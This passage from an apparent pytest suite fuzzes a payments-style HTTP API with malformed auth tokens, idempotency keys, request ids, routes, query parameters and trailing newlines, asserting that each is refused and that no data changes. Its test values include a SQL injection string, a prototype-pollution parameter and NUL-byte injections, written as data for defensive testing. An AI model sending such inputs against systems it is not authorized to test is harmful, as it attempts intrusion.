        for name, query, valid in [
            (name, query, valid_request(ep, c))  # a fresh body each (unique emails, say)
            for name, query in [
                ("unknown-params", f"%ff=%00&a[b]=c&__proto__=x&x={'y' * 10_000}"),
                ("sql-param", "id=1%27%20OR%20%271%27=%271"),
                *([] if ep.paged else [("paging-params-where-none", "limit=-1&cursor=!!!")]),
            ]
        ]
    ]
    verdicts = {"ok": ok, "bad": _ok(422), "lax": ok | {422}}
    for name, query, verdict in ep.filters:
        cases.append(Case("filter", name, method, f"{path}?{query}", verdicts[verdict], c.auth))
    if not ep.paged:
        return cases
    for name, value in BAD_LIMITS:
        cases.append(Case("limit", name, method, f"{path}?limit={value}", _ok(422), c.auth))
    for name, value in LAX_LIMITS:
        cases.append(Case("limit", name, method, f"{path}?limit={value}", ok | {422}, c.auth))
    for name, value in BAD_CURSORS:
        cases.append(Case("cursor", name, method, f"{path}?cursor={value}", _ok(422), c.auth))
    for name, value in LAX_CURSORS:
        cases.append(Case("cursor", name, method, f"{path}?cursor={value}", ok | {422}, c.auth))
    return cases


def idempotency_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
    """The Idempotency-Key header itself, on a valid request to the real target: a bad key is a 400 before
    anything happens; a good one lets the request through; a replay answers the first response and a key
    reused for another body is a 422 (where the first answer is a success, the only one remembered)."""
    assert ep.body is not None
    method, _ = key
    path = ep.target(c)
    body = _dumps(ep.body.valid(c))
    json_ct: Header = ("Content-Type", JSON)
    cases: list[Case] = []
    for name, values in BAD_IDEMPOTENCY_KEYS:
        headers = (*c.auth, json_ct, *(("Idempotency-Key", v) for v in values))
        cases.append(Case("idempotency-key", name, method, path, _ok(400), headers, body))
    for name, value in good_idempotency_keys(c.n()):
        headers = (*c.auth, json_ct, ("Idempotency-Key", value))
        cases.append(Case("idempotency-key", name, method, path, ep.ok, headers, body))
    once = (*c.auth, json_ct, ("Idempotency-Key", f"replayed-{uuid.uuid4()}"))
    other_body = _dumps({**ep.body.valid(c), "amount": 101})
    remembered = all(200 <= code < 300 for code in ep.ok)
    cases += [
        Case("idempotency-key", "first-use", method, path, ep.ok, once, body, replayed=False),
        Case("idempotency-key", "replayed", method, path, ep.ok, once, body, replayed=remembered),
        Case(
            "idempotency-key",
            "reused-for-another-body",
            method,
            path,
            _ok(422) if remembered else ep.ok,
            once,
            other_body,
        ),
    ]
    return cases


def with_idempotency_keys(cases: list[Case], c: Ctx) -> list[Case]:
    """A fresh Idempotency-Key on every POST that does not test the header itself."""
    out = []
    for case in cases:
        if case.method == "POST" and case.group != "idempotency-key":
            case = replace(case, headers=(*case.headers, ("Idempotency-Key", f"bad-input-{c.n()}")))
        out.append(case)
    return out


def header_cases(key: tuple[str, str], ep: Endpoint, c: Ctx, path: str, ok: frozenset[int]) -> list[Case]:
    method, _ = key
    # Auth cases go to the real target with a valid body: a 401 must come before anything happens.
    target = ep.target(c)
    body_ct, content = valid_request(ep, c)
    cases: list[Case] = []
    for name, value in [
        *AUTH_VALUES,
        ("no-scheme", c.token.encode()),
        ("revoked-key", b"Bearer " + c.revoked_token.encode()),
    ]:
        auth: tuple[Header, ...] = () if value is None else (("Authorization", value),)
        expect = _ok(401) if ep.auth else ep.ok
        tid = c.victim_user if ep.ids == "user" else c.victim_key if ep.ids == "key" else None
        cases.append(Case("auth", name, method, target, expect, (*auth, *body_ct), content, target=tid))
    for name, token in [
        ("scheme-token", f"Token {c.token}"),
        ("truncated", f"Bearer {c.token[:-1]}"),
        ("extended", f"Bearer {c.token}x"),
        ("suffix-word", f"Bearer {c.token} extra"),
        ("double-bearer", f"Bearer Bearer {c.token}"),
    ]:
        expect = _ok(401) if ep.auth else ep.ok
        cases.append(Case("auth", name, method, target, expect, (("Authorization", token), *body_ct), content))

    # Junk request ids: on a request that fails validation when there is a body (so the problem
    # document must carry the sanitised id), else on the harmless request.
    rid_content, rid_expect = (b"[]" if ep.body else b"not an image", _ok(422)) if content else (None, ok)
    for name, rid in [*JUNK_REQUEST_IDS, ("well-formed", b"client-id:123.abc_X")]:
        headers = (*c.auth, *body_ct, ("X-Request-ID", rid))
        cases.append(Case("request-id", name, method, path, rid_expect, headers, rid_content, request_id=rid))
    if ep.auth:
        for name, rid in [("control-char-unauthenticated", b"\x01junk"), ("well-formed-unauthenticated", b"abc-123")]:
            cases.append(Case("request-id", name, method, path, _ok(401), (("X-Request-ID", rid),), request_id=rid))
    return cases


def routing_cases(key: tuple[str, str], ep: Endpoint, c: Ctx) -> list[Case]:
    method, template = key
    target = ep.target(c)
    allowed = c.routes[template]
    cases = [
        Case("method", other, other, target, _ok(405), (*c.auth, ("Content-Type", JSON)), b"{}")
        for other in OTHER_METHODS
        if other not in allowed
    ]
    # 405 when a sibling route template has the same shape but not this method (POST /v1/users/nope).
    cases.append(Case("routing", "unknown-subpath", method, f"{target}/nope", _ok(404, 405), c.auth))
    cases.append(Case("routing", "uppercase-path", method, target.upper(), _ok(404), c.auth))
    cases.append(Case("routing", "nul-suffix", method, f"{target}%00", _ok(404), c.auth))
    return cases


def build_cases(key: tuple[str, str], c: Ctx) -> list[Case]:
    ep = ENDPOINTS[key]
    safe_path = (ep.safe or ep.target)(c)
    safe_ok = ep.safe_ok or ep.ok
    cases = header_cases(key, ep, c, safe_path, safe_ok)
    cases += query_cases(key, ep, c, safe_path, safe_ok)
    cases += path_cases(key, ep, c)
    cases += routing_cases(key, ep, c)
    if ep.body is not None:
        cases += body_cases(key, ep, c)
    elif ep.raw is not None:
        cases += raw_body_cases(key, ep, c)
    else:
        cases += bodyless_junk_cases(key, ep, c, safe_path, safe_ok)
    if ep.conditional:
        cases += conditional_cases(key, ep, c)
    if ep.idempotent:
        cases = with_idempotency_keys(cases + idempotency_cases(key, ep, c), c)
    return cases


# --------------------------------------------------------------------------------------------------
# Tests
# --------------------------------------------------------------------------------------------------


async def test_table_covers_every_endpoint(client: Client) -> None:
    served = set(app_endpoints(client.app))
    missing = sorted(served - set(ENDPOINTS))
    stale = sorted(set(ENDPOINTS) - served)
    assert not missing, f"endpoints without bad-input cases (add them to ENDPOINTS): {missing}"
    assert not stale, f"ENDPOINTS lists routes the app does not serve: {stale}"


def _group(key: tuple[str, str]) -> str:
    """Endpoints are exercised per resource: one fresh database and tenant per group keeps the file fast."""
    segments = key[1].split("/")
    return segments[2] if segments[1] == "v1" else "public"


@pytest.mark.parametrize("group", sorted({_group(k) for k in ENDPOINTS}))
async def test_bad_input(group: str, client: Client, tenant: dict[str, Any], pg_url: str) -> None:
    ctx = await make_ctx(client, tenant)
    before = await snapshot(ctx, pg_url)
    model = Model(
        State(
            dict(before.tenant),
            dict(before.users),
            dict(before.keys),
            dict(before.rows),
            dict(before.endpoints),
            dict(before.deliveries),
            dict(before.payments),
            {p: list(rs) for p, rs in before.refunds.items()},
            dict(before.avatars),
            dict(before.uploads),
            set(before.rolled_up),
        )
    )

    failures: list[str] = []
    total = 0
    for key in sorted(k for k in ENDPOINTS if _group(k) == group):
        body = ENDPOINTS[key].body
        cases = build_cases(key, ctx)
        labels = [case.label for case in cases]
        assert len(labels) == len(set(labels)), f"duplicate case names for {key}"
        total += len(cases)
        for case in cases:
            r = await send(client, case)
            failures += check(case, r, body.echo if body else None)
            model.apply(key, case, r)

    # The credentials used throughout still work and nothing changed beyond what 2xx answers reported
    # (once the payments created meanwhile are settled by their jobs).
    await settle_payments(client, dict(ctx.auth))
    after = await snapshot(ctx, pg_url)
    failures += [f"DATA CHANGED: {d}" for d in model.differences(before, after)]
    assert not failures, f"{len(failures)} of {total} cases failed:\n" + "\n".join(failures)


async def test_a_trailing_newline_is_refused_like_any_other_control_character(
    client: Client, tenant: dict[str, Any]
) -> None:
    """ "ab\\ncd" is refused everywhere (``newline-inside``); "abcd\\n" must be too."""
    valid = {"amount": 2500, "currency": "EUR", "payment_method": "pm_card_visa"}
    requests: list[tuple[str, str, dict[str, Any]]] = [
        ("payment_method", "/v1/payments", {**valid, "payment_method": "pm_card_visa\n"}),
        ("metadata key", "/v1/payments", {**valid, "metadata": {"order\n": "1"}}),
        ("metadata value", "/v1/payments", {**valid, "metadata": {"order": "1\n"}}),
        ("description", "/v1/payments", {**valid, "description": "Order #1042\n"}),
        ("description of only a newline", "/v1/payments", {**valid, "description": "\n"}),
        ("user name", "/v1/users", {"email": "nl@acme.test", "name": "Ada Lovelace\n"}),
    ]
    accepted = []
    for what, path, body in requests:
        headers = {**tenant["headers"], "Idempotency-Key": f"newline-{uuid.uuid4()}"}
        r = await client.post(path, headers=headers, json=body)
        assert r.status_code in (201, 202, 422), r.text
        if r.status_code != 422:
            accepted.append(f"{what}: {r.status_code}")
    assert not accepted, f"a trailing newline was accepted in: {accepted}"
